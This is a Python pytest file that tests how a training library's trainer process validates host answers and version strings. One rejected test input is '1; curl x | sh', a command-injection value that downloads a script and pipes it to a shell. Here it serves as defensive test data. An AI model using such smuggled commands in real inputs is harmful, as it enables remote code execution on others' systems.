from __future__ import annotations

import pytest

from dl_magics.crew.joint.trainer_process import checked_answers, read_version
from dl_magics.training.crew.joint.hosts import HostsLost


def read_loss(answer):
    with checked_answers("crew-1"):
        return float(answer["logs"]["loss"])


@pytest.mark.parametrize("answer", [{}, {"logs": []}, {"logs": {"loss": "x\x1b"}}, None])
def test_a_host_that_answers_something_else_is_lost(answer):
    assert read_loss({"logs": {"loss": 1}}) == 1

    with pytest.raises(HostsLost, match="crew-1 sent what is no answer") as lost:
        read_loss(answer)

    assert "\x1b" not in str(lost.value)


@pytest.mark.parametrize("said", ["", "1; curl x | sh", "1\n", "1" * 41, None, 1])
def test_a_version_is_one_that_can_be_part_of_a_command(said):
    assert read_version("0.10.2.dev1+cuda12") == "0.10.2.dev1+cuda12"

    with pytest.raises(ValueError, match="no version"):
        read_version(said)
